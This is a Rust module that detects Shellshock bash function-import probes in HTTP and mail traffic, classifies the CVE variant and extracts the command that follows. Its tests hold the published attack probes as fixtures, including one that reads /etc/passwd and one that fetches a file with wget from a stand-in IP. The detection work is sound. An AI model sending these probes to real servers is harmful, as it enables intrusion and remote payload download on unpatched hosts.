//! Shellshock: bash's import of functions from environment variables
//! (CVE-2014-6271 and its siblings 6277, 6278, 7169, 7186, 7187).
//!
//! Bash took any environment variable whose value starts with `() {` for a
//! function definition and ran what followed it. A CGI script turns every
//! request header into such a variable (`HTTP_USER_AGENT`, `HTTP_COOKIE`),
//! mail filters do the same with envelope and header fields, so the probe is
//! that prefix in a header, a URI, a form field or a mail header, followed by
//! the command the attacker wants run.
//!
//! The scanner finds the function-definition prefix `(` `)` `{` (white space
//! allowed between them) where it is not preceded by a name: `foo() {` and
//! `function () {` are code, `() {` after `=`, `:`, a quote or the start of a
//! value is an import. It reads on from there to name the variant by what
//! the published probes for each CVE put inside the definition, and to cut
//! out the command that follows it. It is streaming and keeps a few hundred
//! bytes at most, so request bodies are scanned as they pass, never buffered.

use memchr::{memchr, memchr2};

/// Which published probe a finding looks like.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Variant {
    /// `() { :; }; command`: the original bug.
    Cve2014_6271,
    /// `() { (a)=>\`: the parser left in a state that writes a file.
    Cve2014_7169,
    /// `() { x() { _; }; x() { _; } <<a; }`: nested definitions.
    Cve2014_6277,
    /// `() { _; } >_[$($())] { ... }`: command substitution in a redirection.
    Cve2014_6278,
    /// `() { _; } <<EOF <<EOF ...`: the redirection stack overflow.
    Cve2014_7186,
    /// `() { for x in ; do for x in ; do ...`: the nested-loop off-by-one.
    Cve2014_7187,
}

impl Variant {
    /// The CVE identifier.
    pub fn cve(self) -> &'static str {
        match self {
            Variant::Cve2014_6271 => "CVE-2014-6271",
            Variant::Cve2014_7169 => "CVE-2014-7169",
            Variant::Cve2014_6277 => "CVE-2014-6277",
            Variant::Cve2014_6278 => "CVE-2014-6278",
            Variant::Cve2014_7186 => "CVE-2014-7186",
            Variant::Cve2014_7187 => "CVE-2014-7187",
        }
    }
}

/// A function-definition import found in a value.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    pub variant: Variant,
    /// Offset of the `(` in the (decoded) bytes scanned.
    pub offset: u64,
    /// The definition and what follows it, up to [`MAX_PAYLOAD`] bytes.
    pub payload: String,
    /// What bash would run after the definition (`/bin/cat /etc/passwd`), if anything.
    pub command: Option<String>,
}

/// A finding and where in a message it was.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    /// `uri`, `header`, `body` (HTTP); `command`, `header` (SMTP and mail).
    pub location: &'static str,
    /// The header's name or the SMTP command's verb.
    pub name: Option<String>,
    pub finding: Finding,
}

impl crate::heap::HeapSize for Hit {
    fn heap_size(&self) -> usize {
        self.name.heap_size() + self.finding.payload.capacity() + self.finding.command.heap_size()
    }
}

impl Hit {
    pub fn new(location: &'static str, name: Option<&[u8]>, finding: Finding) -> Self {
        Hit {
            location,
            name: name.map(|n| String::from_utf8_lossy(&n[..n.len().min(128)]).into_owned()),
            finding,
        }
    }
}

/// Bytes of a finding kept, from its `(`.
pub const MAX_PAYLOAD: usize = 512;
/// Bytes of the command kept.
pub const MAX_COMMAND: usize = 256;

/// How the scanned bytes are encoded.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Encoding {
    /// As they are (header values, mail, JSON and XML bodies).
    Raw,
    /// `%XX` and `+` decoded first (URIs, `application/x-www-form-urlencoded`).
    Url,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Prefix {
    /// Looking for `(`.
    Idle,
    /// `(` seen where a definition may start.
    Open,
    /// `()` seen.
    Closed,
}

/// A streaming scanner: [`feed`](Self::feed) any number of pieces, then
/// [`finish`](Self::finish). The result does not depend on how the bytes
/// were cut.
#[derive(Clone, Debug)]
pub struct Scanner {
    encoding: Encoding,
    /// `%` and up to one hex digit of an escape not complete yet.
    escape: Option<Option<u8>>,
    /// Decoded bytes seen.
    pos: u64,
    /// The last decoded byte that was not white space.
    last_sig: u8,
    prefix: Prefix,
    /// Where the current candidate's `(` was.
    start: u64,
    /// After a match: the payload being captured.
    capture: Vec<u8>,
    capturing: bool,
    found: Option<Finding>,
}

impl Default for Scanner {
    fn default() -> Self {
        Scanner::new(Encoding::Raw)
    }
}

impl crate::heap::HeapSize for Scanner {
    fn heap_size(&self) -> usize {
        self.capture.capacity()
            + self
                .found
                .as_ref()
                .map_or(0, |f| f.payload.capacity() + f.command.heap_size())
    }
}

fn is_name_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'$'
}

fn is_space(c: u8) -> bool {
    matches!(c, b' ' | b'\t' | b'\r' | b'\n' | b'\x0b' | b'\x0c')
}

fn hex(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

impl Scanner {
    pub fn new(encoding: Encoding) -> Self {
        Scanner {
            encoding,
            escape: None,
            pos: 0,
            // The start of a value counts as a separator.
            last_sig: b'\n',
            prefix: Prefix::Idle,
            start: 0,
            capture: Vec::new(),
            capturing: false,
            found: None,
        }
    }

    /// True once a finding is complete; later bytes change nothing.
    pub fn done(&self) -> bool {
        self.found.is_some()
    }

    /// Scans more bytes.
    pub fn feed(&mut self, data: &[u8]) {
        if self.found.is_some() {
            return;
        }
        let mut rest = data;
        while !rest.is_empty() && self.found.is_none() {
            if self.prefix == Prefix::Idle && !self.capturing && self.escape.is_none() {
                // Fast path: nothing can start before the next `(`, or,
                // URL-encoded, before the next `%` (which may decode to one).
                let next = match self.encoding {
                    Encoding::Raw => memchr(b'(', rest),
                    Encoding::Url => memchr2(b'(', b'%', rest),
                };
                match next {
                    Some(0) => {}
                    Some(i) => {
                        self.skip(&rest[..i]);
                        rest = &rest[i..];
                    }
                    None => {
                        self.skip(rest);
                        return;
                    }
                }
            }
            let (&b, tail) = match rest.split_first() {
                Some(x) => x,
                None => break,
            };
            rest = tail;
            match self.encoding {
                Encoding::Raw => self.byte(b),
                Encoding::Url => self.url_byte(b),
            }
        }
    }

    /// Bytes that cannot start a definition: only the last significant one
    /// matters. (URL-encoded, the run has no `%`: its bytes decode to
    /// themselves, but `+` to a space.)
    fn skip(&mut self, run: &[u8]) {
        self.pos += run.len() as u64;
        let url = self.encoding == Encoding::Url;
        let blank = |c: u8| is_space(c) || (url && c == b'+');
        if let Some(&c) = run.iter().rev().find(|&&c| !blank(c)) {
            self.last_sig = c;
        }
    }

    /// `feed` without the fast path: the reference it must agree with.
    #[cfg(test)]
    fn feed_bytewise(&mut self, data: &[u8]) {
        for &b in data {
            if self.found.is_some() {
                return;
            }
            match self.encoding {
                Encoding::Raw => self.byte(b),
                Encoding::Url => self.url_byte(b),
            }
        }
    }

    fn url_byte(&mut self, b: u8) {
        match self.escape {
            None if b == b'%' => self.escape = Some(None),
            None if b == b'+' => self.byte(b' '),
            None => self.byte(b),
            Some(None) => match hex(b) {
                Some(h) => self.escape = Some(Some(h)),
                None => {
                    // Not an escape after all: the bytes stand for themselves.
                    self.escape = None;
                    self.byte(b'%');
                    self.url_byte(b);
                }
            },
            Some(Some(h)) => {
                self.escape = None;
                match hex(b) {
                    Some(l) => self.byte(h << 4 | l),
                    None => {
                        self.byte(b'%');
                        self.byte(HEX_DIGITS[usize::from(h)]);
                        self.url_byte(b);
                    }
                }
            }
        }
    }

    /// One decoded byte.
    fn byte(&mut self, b: u8) {
        let at = self.pos;
        self.pos += 1;
        if self.capturing {
            if self.capture.len() < MAX_PAYLOAD && !ends_value(b, self.encoding) {
                self.capture.push(b);
            } else {
                self.conclude();
            }
            return;
        }
        match (self.prefix, b) {
            (Prefix::Idle, b'(') if !is_name_byte(self.last_sig) && self.last_sig != b')' => {
                self.prefix = Prefix::Open;
                self.start = at;
            }
            (Prefix::Open, b')') => self.prefix = Prefix::Closed,
            (Prefix::Closed, b'{') => {
                self.capturing = true;
                self.capture.extend_from_slice(b"() {");
            }
            (Prefix::Open | Prefix::Closed, c) if is_space(c) => {}
            (Prefix::Open | Prefix::Closed, b'(') => {
                // `((`: only the inner one can still start a definition.
                self.prefix = Prefix::Open;
                self.start = at;
            }
            _ => self.prefix = Prefix::Idle,
        }
        if !is_space(b) {
            self.last_sig = b;
        }
    }

    /// The value ended (or the capture is full): classify what was captured.
    fn conclude(&mut self) {
        if !self.capturing || self.found.is_some() {
            return;
        }
        self.capturing = false;
        let cap = std::mem::take(&mut self.capture);
        self.found = Some(Finding {
            variant: classify(&cap),
            offset: self.start,
            command: command_of(&cap),
            payload: String::from_utf8_lossy(&cap).into_owned(),
        });
    }

    /// The input ended.
    pub fn finish(&mut self) -> Option<&Finding> {
        if self.escape.take().is_some() {
            // A dangling `%` at the end is just a byte.
        }
        self.conclude();
        self.found.as_ref()
    }

    /// The finding, once complete.
    pub fn finding(&self) -> Option<&Finding> {
        self.found.as_ref()
    }

    /// Takes the finding (completing one being captured).
    pub fn take(&mut self) -> Option<Finding> {
        self.conclude();
        self.found.take()
    }
}

const HEX_DIGITS: &[u8; 16] = b"0123456789ABCDEF";

/// Bytes that end the value a definition sits in, so that what follows is
/// not taken for its command: a line end, a NUL, and in URL-encoded data
/// the `&` between fields.
fn ends_value(b: u8, enc: Encoding) -> bool {
    matches!(b, b'\n' | b'\r' | 0) || (enc == Encoding::Url && b == b'&')
}

/// Scans one whole value.
pub fn scan(data: &[u8], encoding: Encoding) -> Option<Finding> {
    let mut s = Scanner::new(encoding);
    s.feed(data);
    s.take()
}

fn count(hay: &[u8], needle: &[u8]) -> usize {
    if needle.is_empty() || hay.len() < needle.len() {
        return 0;
    }
    hay.windows(needle.len()).filter(|w| *w == needle).count()
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    count(hay, needle) > 0
}

/// Names the variant by what the published probe of each CVE carries.
fn classify(cap: &[u8]) -> Variant {
    let compact: Vec<u8> = cap.iter().copied().filter(|c| !is_space(*c)).collect();
    if contains(&compact, b"=>\\") {
        Variant::Cve2014_7169
    } else if contains(&compact, b"$($())") || contains(&compact, b">_[$(") {
        Variant::Cve2014_6278
    } else if count(&compact, b"<<") >= 2 {
        Variant::Cve2014_7186
    } else if count(cap, b"for ") >= 2 || count(cap, b"for\t") >= 2 {
        Variant::Cve2014_7187
    } else if nested_definition(&compact) {
        Variant::Cve2014_6277
    } else {
        Variant::Cve2014_6271
    }
}

/// A `name(){` inside the outer definition's body.
fn nested_definition(compact: &[u8]) -> bool {
    let body = compact.get(3..).unwrap_or_default();
    body.windows(3)
        .enumerate()
        .any(|(i, w)| w == b"(){" && i > 0 && is_name_byte(body[i - 1]))
}

/// What follows the definition's closing brace (and the `;` after it).
fn command_of(cap: &[u8]) -> Option<String> {
    // The definition is `() {` ... its matching `}`; braces inside quotes
    // are rare in probes and not worth a shell parser.
    let open = memchr(b'{', cap)?;
    let mut depth = 0usize;
    let mut end = None;
    for (i, &c) in cap.iter().enumerate().skip(open) {
        match c {
            b'{' => depth += 1,
            b'}' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    end = Some(i + 1);
                    break;
                }
            }
            _ => {}
        }
    }
    let rest = &cap[end?..];
    let rest = rest
        .iter()
        .position(|c| !is_space(*c) && *c != b';')
        .map_or(&rest[rest.len()..], |i| &rest[i..]);
    let rest = &rest[..rest.len().min(MAX_COMMAND)];
    let text = String::from_utf8_lossy(rest).trim().to_owned();
    (!text.is_empty()).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn raw(s: &str) -> Option<Finding> {
        scan(s.as_bytes(), Encoding::Raw)
    }

    #[test]
    fn the_published_probes_and_their_variants() {
        let cases: &[(&str, Variant, Option<&str>)] = &[
            (
                "() { :; }; /bin/cat /etc/passwd",
                Variant::Cve2014_6271,
                Some("/bin/cat /etc/passwd"),
            ),
            (
                "() { :;}; echo vulnerable",
                Variant::Cve2014_6271,
                Some("echo vulnerable"),
            ),
            ("(){ :;};id", Variant::Cve2014_6271, Some("id")),
            (
                "() { ignored; }; /usr/bin/wget http://198.51.100.7/b -O /tmp/b",
                Variant::Cve2014_6271,
                Some("/usr/bin/wget http://198.51.100.7/b -O /tmp/b"),
            ),
            (
                "() { (a)=>\\' bash -c \"echo date\"",
                Variant::Cve2014_7169,
                None,
            ),
            (
                "() { x() { _; }; x() { _; } <<a; }",
                Variant::Cve2014_6277,
                None,
            ),
            (
                "() { _; } >_[$($())] { echo hi mom; id; }",
                Variant::Cve2014_6278,
                Some(">_[$($())] { echo hi mom; id; }"),
            ),
            (
                "() { _; } <<EOF <<EOF <<EOF <<EOF",
                Variant::Cve2014_7186,
                Some("<<EOF <<EOF <<EOF <<EOF"),
            ),
            (
                "() { for x in ; do for x in ; do :; done; done; }",
                Variant::Cve2014_7187,
                None,
            ),
        ];
        for (probe, variant, command) in cases {
            let f = raw(probe).unwrap_or_else(|| panic!("{probe}"));
            assert_eq!(f.variant, *variant, "{probe}");
            assert_eq!(f.command.as_deref(), *command, "{probe}");
            assert_eq!(f.offset, 0);
        }
    }

    #[test]
    fn found_where_values_start() {
        for s in [
            "a=() { :; }; id",
            "session=\"() { :; }; id\"",
            "x: () { :; }; id",
            "  () { :; }; id",
            "[() { :; }; id]",
        ] {
            assert!(raw(s).is_some(), "{s}");
        }
        assert_eq!(raw("xx=1; b=() { :;}; ping -c1 x").unwrap().offset, 8);
    }

    #[test]
    fn code_and_ordinary_parentheses_are_not_probes() {
        for s in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
            "Mozilla/4.0 ()",
            "function () { return 1; }",
            "$(function() { init(); })",
            "main() { return 0; }",
            "var f = () => { return 2; }",
            "if (a) { b(); }",
            "foo()() {}",
            "a(b)(){}",
            "(())",
            "()",
            "() x {",
        ] {
            assert_eq!(raw(s), None, "{s}");
        }
    }

    #[test]
    fn url_encoding_is_seen_through() {
        let f = scan(
            b"/cgi-bin/status?x=%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fid&y=1",
            Encoding::Url,
        )
        .unwrap();
        assert_eq!(f.command.as_deref(), Some("/bin/id"));
        let f = scan(b"q=()+{+:;+};+uname+-a", Encoding::Url).unwrap();
        assert_eq!(f.command.as_deref(), Some("uname -a"));
        assert_eq!(scan(b"%2=() { :; }", Encoding::Url).unwrap().offset, 3);
        assert_eq!(scan(b"() { :; }", Encoding::Url).map(|f| f.offset), Some(0));
        assert!(scan(b"%28%29", Encoding::Url).is_none());
    }

    #[test]
    fn the_value_ends_at_the_line() {
        let f = raw("() { :; }; id\r\nHost: x").unwrap();
        assert_eq!(f.command.as_deref(), Some("id"));
        let long = format!("() {{ :; }}; {}", "a".repeat(2000));
        let f = raw(&long).unwrap();
        assert_eq!(f.payload.len(), MAX_PAYLOAD);
        assert_eq!(f.command.map(|c| c.len()), Some(MAX_COMMAND));
    }

    /// Real User-Agents and Cookies (pcaps/bots/corpus/, origins in its
    /// header lines), every one of them clean.
    #[test]
    fn a_corpus_of_real_headers_holds_no_probe() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../pcaps/bots/corpus");
        let mut n = 0;
        for file in ["user-agents.txt", "cookies.txt"] {
            let text = std::fs::read_to_string(dir.join(file)).expect("corpus");
            for line in text
                .lines()
                .filter(|l| !l.starts_with('#') && !l.is_empty())
            {
                n += 1;
                for enc in [Encoding::Raw, Encoding::Url] {
                    assert_eq!(scan(line.as_bytes(), enc), None, "{file}: {line}");
                }
            }
        }
        assert!(n > 2900, "{n}");
    }

    #[test]
    fn a_cut_at_every_point_gives_the_same_finding() {
        for (text, enc) in [
            (
                &b"x=1; v=() { :;}; echo vulnerable\nnext"[..],
                Encoding::Raw,
            ),
            (b"() { _; } >_[$($())] { id; }", Encoding::Raw),
            (
                b"a=b&c=%28%29+%7B+%3A%3B+%7D%3B+%2Fbin%2Fid&d=e",
                Encoding::Url,
            ),
        ] {
            let whole = scan(text, enc);
            assert!(whole.is_some());
            for at in 0..=text.len() {
                let mut s = Scanner::new(enc);
                s.feed(&text[..at]);
                s.feed(&text[at..]);
                assert_eq!(s.take(), whole, "cut at {at}");
            }
        }
    }

    use proptest::strategy::Strategy;

    /// A scanner fed `bytes` cut at `cuts` (taken modulo the length).
    fn fed_in_pieces(enc: Encoding, bytes: &[u8], cuts: &[usize]) -> Scanner {
        let mut points: Vec<usize> = cuts.iter().map(|c| c % (bytes.len() + 1)).collect();
        points.sort_unstable();
        let mut s = Scanner::new(enc);
        let mut at = 0;
        for p in points.into_iter().chain([bytes.len()]) {
            s.feed(&bytes[at..p]);
            at = p;
        }
        s
    }

    proptest::proptest! {
        #[test]
        fn any_cut_gives_the_same_finding(
            pre in "[ -~]{0,40}",
            post in "[ -~]{0,40}",
            cuts in proptest::collection::vec(0usize..200, 0..6),
            url in proptest::bool::ANY,
        ) {
            let enc = if url { Encoding::Url } else { Encoding::Raw };
            let text = format!("{pre}%28) {{ :; }}; /bin/id {post}\n() {{ x; }}; second");
            let bytes = text.as_bytes();
            let whole = scan(bytes, enc);
            proptest::prop_assert_eq!(fed_in_pieces(enc, bytes, &cuts).take(), whole);
        }

        #[test]
        fn the_fast_path_agrees_with_reading_byte_by_byte(
            // Mostly the bytes the grammar turns on, so definitions,
            // escapes and near misses are common.
            parts in proptest::collection::vec(
                proptest::prop_oneof![
                    proptest::sample::select(vec![
                        "(", ")", "{", "}", " ", "+", "%", "%28", "%29", "%7b", "%7B", "%2", "%zz",
                        ";", "=", "a", "x=", ")(", "() {", "%28%29+%7b", "\n", "&",
                    ]).prop_map(str::to_owned),
                    "[ -~]{0,6}",
                ],
                0..40,
            ),
            cuts in proptest::collection::vec(0usize..400, 0..4),
            url in proptest::bool::ANY,
        ) {
            let enc = if url { Encoding::Url } else { Encoding::Raw };
            let bytes = parts.concat().into_bytes();
            let mut slow = Scanner::new(enc);
            slow.feed_bytewise(&bytes);
            let mut fast = fed_in_pieces(enc, &bytes, &cuts);
            proptest::prop_assert_eq!((fast.pos, fast.last_sig), (slow.pos, slow.last_sig));
            proptest::prop_assert_eq!(fast.take(), slow.take());
        }

        #[test]
        fn arbitrary_bytes_never_panic(data in proptest::collection::vec(proptest::num::u8::ANY, 0..600), url in proptest::bool::ANY) {
            let enc = if url { Encoding::Url } else { Encoding::Raw };
            let _ = scan(&data, enc);
        }
    }
}
